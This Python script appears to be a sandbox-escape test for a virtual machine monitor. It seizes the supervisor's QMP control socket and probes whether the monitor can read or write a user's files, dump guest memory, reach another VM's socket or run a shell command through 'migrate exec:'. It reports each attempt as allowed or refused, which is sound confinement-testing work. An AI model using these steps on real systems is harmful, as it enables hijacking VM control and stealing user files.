"""What a VMM can reach that a guest has taken over: commands to its own monitor, as code of the guest's could give them.

qmp-escape.py SUPERVISOR VMM SECRET OUTSIDE SOCKET FILE
    SECRET   a file of the user's; OUTSIDE: a folder of the user's; SOCKET: another VM's control socket;
    FILE     a file that the VMM may read

Takes the supervisor's end of the monitor's connection, with the supervisor stopped meanwhile, and prints a line for each
attempt: "NAME allowed" or "NAME refused: WHY". The VM is of no use afterwards.
"""
import ctypes
import json
import os
import re
import signal
import socket
import struct
import sys

SYS_pidfd_open, SYS_pidfd_getfd = 434, 438
libc = ctypes.CDLL(None, use_errno=True)


def take_fd(pid, fd):
    pidfd = libc.syscall(SYS_pidfd_open, pid, 0)
    taken = libc.syscall(SYS_pidfd_getfd, pidfd, fd, 0)
    if taken < 0:
        raise OSError(ctypes.get_errno(), f"descriptor {fd} of process {pid}")
    return taken


def inode(pid, fd):
    found = re.fullmatch(r"socket:\[(\d+)\]", os.readlink(f"/proc/{pid}/fd/{fd}"))
    return int(found[1]) if found else None


def peer_inode(ino):
    """The other end of a connected pair: sock_diag(7), unix_diag_req with UDIAG_SHOW_PEER."""
    body = struct.pack("=BBHIIIII", socket.AF_UNIX, 0, 0, 0xFFFFFFFF, ino, 4, 0xFFFFFFFF, 0xFFFFFFFF)
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 4) as s:
        s.settimeout(10)
        s.send(struct.pack("=IHHII", 16 + len(body), 20, 1, 1, 0) + body)
        reply = s.recv(8192)
    at = 16 + 16
    while at + 4 <= len(reply):
        size, kind = struct.unpack_from("=HH", reply, at)
        if kind == 2:
            return struct.unpack_from("=I", reply, at + 4)[0]
        at += (max(size, 4) + 3) & ~3
    raise OSError("the socket has no peer")


def monitor_of(supervisor, vmm):
    args = open(f"/proc/{vmm}/cmdline", "rb").read().decode().split("\0")
    fd = next(re.search(r"id=control,fd=(\d+)", a)[1] for a in args if "id=control" in a)
    wanted = peer_inode(inode(vmm, fd))
    for name in os.listdir(f"/proc/{supervisor}/fd"):
        if inode(supervisor, name) == wanted:
            return socket.socket(fileno=take_fd(supervisor, int(name)))
    raise OSError("the supervisor has no end of the monitor")


class Monitor:
    def __init__(self, sock):
        self.sock, self.text = sock, b""
        sock.setblocking(True)
        sock.settimeout(20)

    def ask(self, command, arguments):
        self.sock.sendall(json.dumps({"execute": command, "arguments": arguments, "id": "escape"}).encode() + b"\n")
        while True:
            while b"\n" in self.text:
                one, self.text = self.text.split(b"\n", 1)
                reply = json.loads(one)
                if reply.get("id") == "escape":
                    return reply
            more = self.sock.recv(65536)
            if not more:
                raise OSError("the monitor has ended")
            self.text += more


def main():
    supervisor, vmm = int(sys.argv[1]), int(sys.argv[2])
    secret, outside, control, file = sys.argv[3:7]
    os.kill(supervisor, signal.SIGSTOP)
    try:
        m = Monitor(monitor_of(supervisor, vmm))

        def blockdev(name, path, **more):
            return "blockdev-add", {"driver": "file", "node-name": name, "filename": path, **more}

        def chardev(name, kind, **data):
            return "chardev-add", {"id": name, "backend": {"type": kind, "data": data}}

        attempts = {
            "the monitor answers": ("query-status", {}),
            "read a file of its own": blockdev("own", file, **{"read-only": True, "locking": "off"}),
            "read a file of the user's": blockdev("secret", secret, **{"read-only": True, "locking": "off"}),
            "write a file of its own image": blockdev("rw", file, locking="off"),
            "write a file of the user's": blockdev("out", secret, locking="off"),
            "write memory to a file": ("pmemsave", {"val": 0, "size": 4096, "filename": outside + "/memory"}),
            "dump the guest to a file": ("dump-guest-memory", {"paging": False, "protocol": "file:" + outside + "/core"}),
            "log a character device to a file": chardev("log", "file", out=outside + "/chardev"),
            "connect to another vm": chardev("other", "socket", addr={"type": "unix", "data": {"path": control}},
                                             server=False),
            "listen on a socket": chardev("listen", "socket", addr={"type": "unix", "data": {"path": outside + "/s"}},
                                          server=True, wait=False),
            "map a file of the user's": ("object-add", {"qom-type": "memory-backend-file", "id": "map", "size": 4096,
                                                        "mem-path": secret}),
            "run a program": ("migrate", {"uri": "exec:cat >" + outside + "/state"}),  # its last one, if it is killed
        }
        for name, (command, arguments) in attempts.items():
            try:
                reply = m.ask(command, arguments)
                print(name, "allowed" if "return" in reply else "refused: " + reply["error"]["desc"])
            except OSError:
                print(name, "refused: the VMM was killed for it")
                break
    finally:
        os.kill(supervisor, signal.SIGCONT)


main()
